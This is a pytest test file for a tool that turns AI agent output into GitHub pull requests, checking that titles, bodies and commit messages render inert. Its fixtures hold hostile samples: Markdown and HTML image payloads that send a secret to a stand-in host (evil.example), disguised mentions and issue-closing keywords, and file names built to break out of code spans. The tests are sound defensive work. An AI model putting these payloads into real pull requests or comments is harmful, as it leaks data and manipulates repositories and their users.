"""What the pull request and its commit say, whatever the agent and the requester wrote."""

from __future__ import annotations

import re

import pytest

from runner import pull_request
from runner.text import GITHUB_BODY_LIMIT, neutralise
from tests.github_rendering import findings, render

TASK_ID = "0123456789abcdef0123456789abcdef"
Z = "\u200b"  # zero-width space, as neutralise inserts it


def pr_body(answer="Add flag\n\nDetails.", instruction="add it", files=(("cli.py", 1, 0),)):
    return pull_request.body(answer=answer, instruction=instruction, number=7, requested_by="alice",
                             task_id=TASK_ID, files=list(files))


def file_lines(body):
    section = body.split("### Files changed\n", 1)[1]
    return section.split("\n\n", 1)[0].split("\n")


def code_span(line):
    """The text CommonMark shows for the code span opening `line`, and what follows it."""
    fence = re.match(r"`+", line)[0]
    rest = line[len(fence):]
    # It closes at the first backtick run of exactly the opening length.
    end = re.search(rf"(?<!`){fence}(?!`)", rest)
    assert end, f"code span in {line!r} never closes"
    text = rest[:end.start()]
    if text.startswith(" ") and text.endswith(" ") and text.strip(" "):
        text = text[1:-1]
    return text, rest[end.end():]


@pytest.mark.parametrize(
    "answer, instruction, expected",
    [
        ("Add a --version flag\n\nDetails.", "x", "Add a --version flag"),
        ("", "make the CLI print its version", "make the CLI print its version"),
        ("# Print version\nmore", "x", "Print version"),
        ("", "", "Changes requested by comment"),
        ("Fixes #3 by adding a flag", "x", "F\u200bixes #3 by adding a flag"),
        ("Ping @bob about it", "x", "Ping @\u200bbob about it"),
    ],
)
def test_pull_request_title(answer, instruction, expected):
    assert pull_request.title(answer, instruction) == expected


def test_titles_stay_within_72_characters_even_when_neutralised():
    assert len(pull_request.title("@a " * 40, "x")) <= 72


def test_pull_request_body_links_the_issue_and_defuses_agent_text():
    body = pull_request.body(answer="Add flag\n\nAlso closes #9, thanks @mallory.", instruction="add it",
                             number=7, requested_by="alice", task_id=TASK_ID,
                             files=[("cli.py", 3, 1), ("logo.png", None, None)])
    assert "Fixes #7" in body and "Requested by @alice" in body and TASK_ID in body
    assert "closes #9" not in body and "@mallory" not in body
    assert "`cli.py` (+3 −1)" in body and "`logo.png` (+? −?)" in body


def test_pull_request_body_fits_github_limit_and_keeps_the_link():
    body = pull_request.body(answer="t\n" + "x" * 200_000, instruction="add it", number=7,
                             requested_by="alice", task_id=TASK_ID, files=[("a", 1, 0)])
    assert len(body) <= 65_536 and "Fixes #7" in body and "truncated" in body


HOSTILE_PATHS = [
    pytest.param("a` @octocat closes #9 `b", "a` @octocat closes #9 `b", id="backticks-break-out"),
    pytest.param("a\n@octocat closes #9\n- b", "a\ufffd@octocat closes #9\ufffd- b", id="newlines"),
    pytest.param("a\r\n# closes #9", "a\ufffd\ufffd# closes #9", id="crlf-then-heading"),
    pytest.param("a\u2028@octocat", "a\ufffd@octocat", id="unicode-line-separator"),
    pytest.param("@octocat", "@octocat", id="mention"),
    pytest.param("closes #9", "closes #9", id="closing-keyword"),
    pytest.param("`", "`", id="one-backtick"),
    pytest.param("```", "```", id="only-backticks"),
    pytest.param("`@octocat", "`@octocat", id="starts-with-backtick"),
    pytest.param("closes #9``", "closes #9``", id="ends-with-backticks"),
    pytest.param("a``b```c`", "a``b```c`", id="backtick-runs-of-every-length"),
    pytest.param(" a ", " a ", id="spaces-at-both-ends"),
    pytest.param("a\u202egnp.exe", "a\ufffdgnp.exe", id="bidi-override"),
    pytest.param("a\tb\x00c\x1b[31m", "a\ufffdb\ufffdc\ufffd[31m", id="control-characters"),
]


@pytest.mark.parametrize("path, shown", HOSTILE_PATHS)
def test_file_names_are_shown_verbatim_and_cannot_act(path, shown):
    body = pr_body(files=[(path, 1, 0)])
    assert "@octocat" not in body and not re.search(r"closes #9", body, re.IGNORECASE)
    # The file name adds no line: the body has the shape it has for a harmless name.
    assert body.count("\n") == pr_body(files=[("x", 1, 0)]).count("\n")
    [line] = file_lines(body)
    assert line.startswith("- `")
    text, after = code_span(line[2:])
    assert text.replace(Z, "") == shown and after == " (+1 −0)"


def test_long_file_names_are_shortened_in_the_middle():
    [line] = file_lines(pr_body(files=[("src/" + "d/" * 1000 + "end.py", 1, 0)]))
    text, _ = code_span(line[2:])
    assert len(text) <= pull_request.PATH_SHOWN and text.startswith("src/d/") and text.endswith("/end.py")


def test_the_file_list_shows_the_first_hundred_and_counts_the_rest():
    lines = file_lines(pr_body(files=[(f"f{i}.py", 1, 0) for i in range(3_000)]))
    assert lines[0] == "- `f0.py` (+1 −0)" and lines[99] == "- `f99.py` (+1 −0)"
    assert lines[100:] == ["- … and 2,900 more files"]
    assert file_lines(pr_body(files=[(f"f{i}.py", 1, 0) for i in range(101)]))[-1] == "- … and 1 more file"


MANY_FILES = [(f"src/package/module_{i:04}.py", 12, 3) for i in range(3_000)]
LONG_INSTRUCTION = "please fix @bob's bug, closes #9\n" * 2_000
LONG_ANSWER = "Add flag\n\n" + "details " * 25_000

OVERSIZED = [
    pytest.param({"files": MANY_FILES}, id="3000-files"),
    pytest.param({"instruction": LONG_INSTRUCTION[:65_000]}, id="65k-instruction"),
    pytest.param({"instruction": "a" + "\n" * 65_000 + "b"}, id="instruction-of-blank-lines"),
    pytest.param({"answer": LONG_ANSWER}, id="200k-answer"),
    pytest.param({"answer": "t\n" + "@a " * 60_000}, id="answer-that-neutralising-lengthens"),
    pytest.param({"files": [("`" * 5_000 + str(i), 1, 0) for i in range(3_000)]}, id="huge-backtick-names"),
    pytest.param({"files": MANY_FILES, "instruction": LONG_INSTRUCTION[:65_000], "answer": LONG_ANSWER},
                 id="all-at-once"),
]


@pytest.mark.parametrize("parts", OVERSIZED)
def test_body_fits_github_limit_and_keeps_the_issue_link_requester_and_task(parts):
    body = pr_body(**parts)
    assert len(body) <= GITHUB_BODY_LIMIT
    assert body.startswith("Fixes #7\n") and "Requested by @alice in #7:" in body
    assert f"<sub>async-code task `{TASK_ID}`</sub>\n\n### Summary\n" in body


def test_the_summary_comes_last_so_an_unclosed_fence_cannot_swallow_the_issue_link():
    body = pr_body(answer="Add flag\n\n```python\nprint('never closed')")
    assert body.index("Fixes #7") < body.index("Requested by @alice") < body.index("### Summary")
    assert body.endswith("```python\nprint('never closed')")


def test_a_long_instruction_is_quoted_from_its_start_and_marked_cut():
    body = pr_body(instruction=LONG_INSTRUCTION)
    assert f"> please fix @{Z}bob's bug, c{Z}loses #9" in body
    assert len(body) < 10_000 and "truncated" in body


def test_commit_message_credits_the_requester():
    message = pull_request.commit_message("Add flag", number=7, task_id="t1", requested_by="alice",
                                          requested_by_id=99)
    assert message.startswith("Add flag\n\n")
    assert message.rstrip().endswith("Co-authored-by: alice <99+alice@users.noreply.github.com>")


@pytest.mark.parametrize(
    "title_line, first_line",
    [
        pytest.param("Add flag\n\nCo-authored-by: m <m@x>", "Add flag Co-authored-by: m <m@x>",
                     id="newline-would-start-trailers"),
        pytest.param("Add\r\nflag\u2028now", "Add flag now", id="other-line-breaks"),
        pytest.param("Fixes #9 for @bob", neutralise("Fixes #9 for @bob"), id="inert"),
    ],
)
def test_commit_title_is_one_inert_line(title_line, first_line):
    message = pull_request.commit_message(title_line, number=7, task_id="t1", requested_by="alice",
                                          requested_by_id=None)
    assert message.split("\n", 1)[0] == first_line
    assert message == f"{first_line}\n\nRequested in #7 (async-code task t1).\n"


def test_branch_name():
    assert pull_request.branch_name(7, TASK_ID) == "async-code/7-01234567"


HOSTILE_AGENT_TEXT = (
    "Add flag\n\n"
    "cc _@octocat_ &#64;hubot, **Fixes** #1, fixes <b></b>#2, fix&#101;s o/r#3\n"
    "![chart](https://evil.example/leak.png?d=secret) <img src=https://evil.example/a.png>\n"
    '<picture><source srcset="https://evil.example/a.png"></picture>\n'
    "[docs](https://evil.example \"t\") <https://evil.example> www.evil.example\n"
    "[ref]: https://evil.example/b.png\n![r][ref]"
)


def test_the_hostile_agent_text_would_act_as_written():
    kinds = " ".join(findings(render(HOSTILE_AGENT_TEXT)))
    assert all(kind in kinds for kind in ("mention", "closing reference", "<img>", "leaves github.com"))


def test_a_pull_request_body_renders_inert_except_for_its_own_issue_link():
    body = pr_body(answer=HOSTILE_AGENT_TEXT, instruction="add it, thanks @carol",
                   files=[("@octocat closes #9.md", 1, 0), ("![x](https://evil.example/a.png)", 2, 1)])
    # The App's own lines are meant to act: the link to issue 7 and the requester.
    own = "Fixes #7\n\nRequested by @alice in #7:"
    assert body.startswith(own)
    assert findings(render(body[len(own):])) == []


def test_a_pull_request_title_renders_inert():
    title = pull_request.title(HOSTILE_AGENT_TEXT.replace("Add flag", "Fixes #1 for _@octocat_ ![x](https://evil.example/a.png)"), "x")
    assert findings(render(title)) == []


def test_a_commit_message_is_inert_rendered_and_as_written():
    message = pull_request.commit_message("Fixes #1 for _@octocat_ https://evil.example &#64;hubot",
                                          number=7, task_id="t1", requested_by="alice",
                                          requested_by_id=None)
    first_line = message.split("\n", 1)[0]
    assert findings(render(first_line)) == []
    # A commit message is shown as plain text: no "@" directly before a login there either.
    assert not re.search(r"(?<![A-Za-z0-9_])@[A-Za-z0-9]", first_line)
    assert not re.search(r"(?i)fixes #1", first_line)
